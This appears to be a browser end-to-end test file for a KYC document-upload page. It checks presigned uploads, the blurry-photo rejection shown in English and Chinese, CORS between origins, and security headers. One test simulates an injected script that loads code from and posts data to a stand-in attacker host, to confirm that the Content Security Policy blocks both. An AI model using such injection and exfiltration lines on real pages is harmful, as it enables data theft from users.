/**
 * The reference upload page against the REAL local runtime (not the fake API): the page is
 * served by `kyc local`'s HTTP API, gets its token from the local token route, uploads straight
 * to the local S3 through the presigned POSTs, and shows what the pipeline decided. A blurry
 * passport page is refused by the on-upload quality gate with PHOTO_TOO_BLURRY; the page shows
 * the catalog's message and tip, in Chinese after the switch; the stored records agree.
 *
 * Then a frontend on another origin (its own server, as a team's app in development would be),
 * allowed by `allowedOrigins` (`kyc local --allow-origin`): it goes through the whole flow with
 * `fetch` and a presigned POST under the browser's CORS rules; a page on an origin not allowed
 * cannot read a single answer.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ScanCommand } from '@aws-sdk/lib-dynamodb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { describeReason } from '../../lambdas/domain/reason-catalog/index.ts';
import { demoPerson } from '../../local/demo/sample-images.ts';
import { syntheticSampleImages } from '../../local/demo/synthetic-images.ts';
import { startE2eRuntime, type E2eRuntime } from '../e2e/support/local-runtime.ts';
import { chromiumAvailable, launchBrowser, type TestBrowser } from './harness/browser.ts';
import { UploadPage } from './harness/upload-page.ts';

describe.skipIf(!chromiumAvailable())('reference upload page in Chromium against the local runtime', () => {
  let e2e: E2eRuntime;
  let browser: TestBrowser;
  const files = mkdtempSync(join(tmpdir(), 'kyc-page-files-'));
  /** Two frontends of their own: the first origin is allowed, the second is not. */
  const frontends: Server[] = [];
  const frontendOrigins: string[] = [];

  beforeAll(async () => {
    // Prepare: the runtime, the browser, and a blurry passport page plus a good selfie on disk.
    // Liveness off: this test is about uploads and the quality gate; the camera and liveness
    // steps have their own browser test (camera-liveness.test.ts) with a fake camera.
    for (let i = 0; i < 2; i++) {
      const server = createServer((_request, response) => {
        response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
        response.end('<!doctype html><html><head><title>Frontend</title></head><body>app</body></html>');
      });
      await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
      frontends.push(server);
      frontendOrigins.push(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
    }
    e2e = await startE2eRuntime({
      config: { features: { liveness: false }, allowedOrigins: [frontendOrigins[0] as string] },
    });
    browser = await launchBrowser();
    const images = syntheticSampleImages(demoPerson);
    const person = images.person(1);
    writeFileSync(join(files, 'passport-blurry.jpg'), await images.document(person, { blurry: true }));
    writeFileSync(join(files, 'selfie.jpg'), await images.selfie(person));
  });

  afterAll(async () => {
    await browser?.close();
    await e2e?.stop();
    for (const server of frontends) server.close();
    rmSync(files, { recursive: true, force: true });
  });

  it('uploads through the presigned POSTs and shows the gate refusal in English, then in Chinese', async () => {
    // Prepare
    const person = demoPerson(1);
    const page = new UploadPage(await browser.context.newPage(), e2e.logs);
    await page.open(e2e.runtime.apiUrl);
    await page.submitDetails({
      level: 'basic',
      nationality: 'GBR',
      documentType: 'passport',
      fullName: person.fullName,
      dateOfBirth: person.dateOfBirth,
      address: person.address,
    });
    expect(await page.slots()).toEqual(['document_front', 'selfie']);

    // Act
    await page.chooseFile('document_front', join(files, 'passport-blurry.jpg'));
    await page.chooseFile('selfie', join(files, 'selfie.jpg'));
    await page.upload();
    const status = await page.waitForDecision(120_000);

    // Assess: every slot went up, the pipeline refused the blurry page with its reason
    expect(await page.progress('document_front')).toEqual({ value: 100, label: 'Uploaded (100%)' });
    expect(await page.progress('selfie')).toEqual({ value: 100, label: 'Uploaded (100%)' });
    expect(status).toBe('rejected');
    const shown = await page.reasons();
    expect(shown.map((reason) => reason.code)).toContain('PHOTO_TOO_BLURRY');
    expect(shown).toEqual(shown.map(({ code }) => describeReason(code as never, 'en')));

    // Act: switch the page to Chinese
    await page.switchLanguage('中文');
    const blurryZh = describeReason('PHOTO_TOO_BLURRY', 'zh-CN');
    await page.page.locator('#reasons .reason-message', { hasText: blurryZh.message }).waitFor();

    // Assess: the same reasons in zh-CN, and the stored document record agrees with the page
    expect(await page.reasons()).toEqual(shown.map(({ code }) => describeReason(code as never, 'zh-CN')));
    // This runtime is fresh: its only document records are the ones this page uploaded.
    const stored = await e2e.dynamo.send(new ScanCommand({ TableName: e2e.env.VERIFICATIONS_TABLE }));
    const front = (stored.Items ?? []).find((item) => item.slot === 'document_front');
    expect(front?.result).toBe('rejected');
    expect(front?.reasons).toContain('PHOTO_TOO_BLURRY');
    expect(page.cspViolations).toEqual([]);
  }, 240_000);

  it('serves the page with its strict security headers, and the browser enforces them', async () => {
    // Prepare
    const page = new UploadPage(await browser.context.newPage(), e2e.logs);
    const response = await page.page.goto(`${e2e.runtime.apiUrl}/`);
    const s3Origin = new URL(e2e.runtime.endpoints.s3).origin;

    // Act: what an injected script would try: load code from elsewhere, send data elsewhere
    const attempts = await page.page.evaluate(async () => {
      const script = document.createElement('script');
      script.src = 'https://attacker.example/steal.js';
      const loaded = await new Promise<string>((done) => {
        script.onload = () => done('loaded');
        script.onerror = () => done('blocked');
        document.head.append(script);
      });
      const sent = await fetch('https://attacker.example/collect', { method: 'POST', body: 'x' }).then(
        () => 'sent',
        () => 'blocked',
      );
      let evaluated = 'blocked';
      try {
        evaluated = String(new Function('return "ran"')());
      } catch {
        // EvalError under script-src 'self'
      }
      return { loaded, sent, evaluated };
    });

    // Assess: the headers, and each attempt refused by the policy (not merely unreachable)
    const headers = response?.headers() ?? {};
    expect(headers['content-security-policy']).toContain("script-src 'self'");
    expect(headers['content-security-policy']).toContain(`connect-src 'self' ${s3Origin}`);
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(headers['permissions-policy']).toContain('camera=(self)');
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(attempts).toEqual({ loaded: 'blocked', sent: 'blocked', evaluated: 'blocked' });
    expect(page.cspViolations.length).toBeGreaterThanOrEqual(3);
  });

  it('lets a frontend on an allowed origin verify through CORS, and keeps every answer from another origin', async () => {
    // Prepare: the two frontends' pages, and the files the allowed one uploads
    const allowedPage = await browser.context.newPage();
    await allowedPage.goto(`${frontendOrigins[0]}/`);
    const otherPage = await browser.context.newPage();
    await otherPage.goto(`${frontendOrigins[1]}/`);
    const person = demoPerson(2);
    const details = {
      level: 'basic',
      nationality: 'GBR',
      documentType: 'passport',
      personalData: { fullName: person.fullName, dateOfBirth: person.dateOfBirth, address: person.address },
    };
    const bytes = {
      document_front: readFileSync(join(files, 'passport-blurry.jpg')).toString('base64'),
      selfie: readFileSync(join(files, 'selfie.jpg')).toString('base64'),
    };

    // Act: the whole flow as a frontend writes it: a token, the verification, an attempt, both
    // uploads as presigned POSTs, then the status in Chinese (JSON bodies and the bearer token
    // make every API call a preflighted one)
    const run = await allowedPage.evaluate(
      async ({ api, details, bytes }): Promise<FrontendRun> => {
        const { token } = (await (await fetch(`${api}/_local/token?user=cors-frontend&role=user`)).json()) as {
          token: string;
        };
        const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
        const created = await fetch(`${api}/v1/verifications`, {
          method: 'POST',
          headers,
          body: JSON.stringify(details),
        });
        const { verificationId } = (await created.json()) as { verificationId: string };
        const attempt = await fetch(`${api}/v1/verifications/${verificationId}/attempts`, { method: 'POST', headers });
        const { uploads } = (await attempt.json()) as {
          uploads: Record<string, { url: string; fields: Record<string, string> }>;
        };
        const statuses: number[] = [];
        for (const [slot, base64] of Object.entries(bytes)) {
          const target = uploads[slot];
          if (!target) throw new Error(`no upload for ${slot}`);
          const form = new FormData();
          for (const [name, value] of Object.entries(target.fields)) form.append(name, value);
          const file = Uint8Array.from(atob(base64), (char) => char.charCodeAt(0));
          form.append('file', new Blob([file], { type: 'image/jpeg' }), `${slot}.jpg`);
          statuses.push((await fetch(target.url, { method: 'POST', body: form })).status);
        }
        for (let polls = 0; polls < 600; polls++) {
          const answer = await fetch(`${api}/v1/verifications/${verificationId}`, {
            headers: { authorization: headers.authorization, 'accept-language': 'zh-CN' },
          });
          const view = (await answer.json()) as FrontendRun;
          if (view.status !== 'awaiting_upload' && view.status !== 'processing') {
            return {
              created: created.status,
              attempt: attempt.status,
              uploads: statuses,
              status: view.status,
              reasons: view.reasons,
            };
          }
          await new Promise((wait) => setTimeout(wait, 200));
        }
        throw new Error('no decision within 120 s');
      },
      { api: e2e.runtime.apiUrl, details, bytes },
    );
    const refused = await otherPage.evaluate(async (api) => {
      const outcome = (request: Promise<Response>) =>
        request.then(
          (response) => `read ${response.status}`,
          (error: unknown) => `refused: ${(error as Error).name}`,
        );
      return {
        token: await outcome(fetch(`${api}/_local/token?user=cors-other&role=user`)),
        create: await outcome(
          fetch(`${api}/v1/verifications`, {
            method: 'POST',
            headers: { authorization: 'Bearer x', 'content-type': 'application/json' },
            body: '{}',
          }),
        ),
        health: await outcome(fetch(`${api}/health`)),
      };
    }, e2e.runtime.apiUrl);

    // Assess: the allowed frontend read every answer and got the decision with its reasons in
    // Chinese; the other one could read none (the browser's TypeError, not an HTTP status)
    expect(run).toMatchObject({ created: 201, attempt: 201, uploads: [204, 204], status: 'rejected' });
    expect(run.reasons.map((reason) => reason.code)).toContain('PHOTO_TOO_BLURRY');
    expect(run.reasons.find((reason) => reason.code === 'PHOTO_TOO_BLURRY')?.message).toBe(
      describeReason('PHOTO_TOO_BLURRY', 'zh-CN').message,
    );
    expect(refused).toEqual({
      token: 'refused: TypeError',
      create: 'refused: TypeError',
      health: 'refused: TypeError',
    });
    await allowedPage.close();
    await otherPage.close();
  }, 240_000);
});

/** What the cross-origin frontend saw, step by step. */
interface FrontendRun {
  readonly created: number;
  readonly attempt: number;
  readonly uploads: number[];
  readonly status: string;
  readonly reasons: { code: string; message: string }[];
}
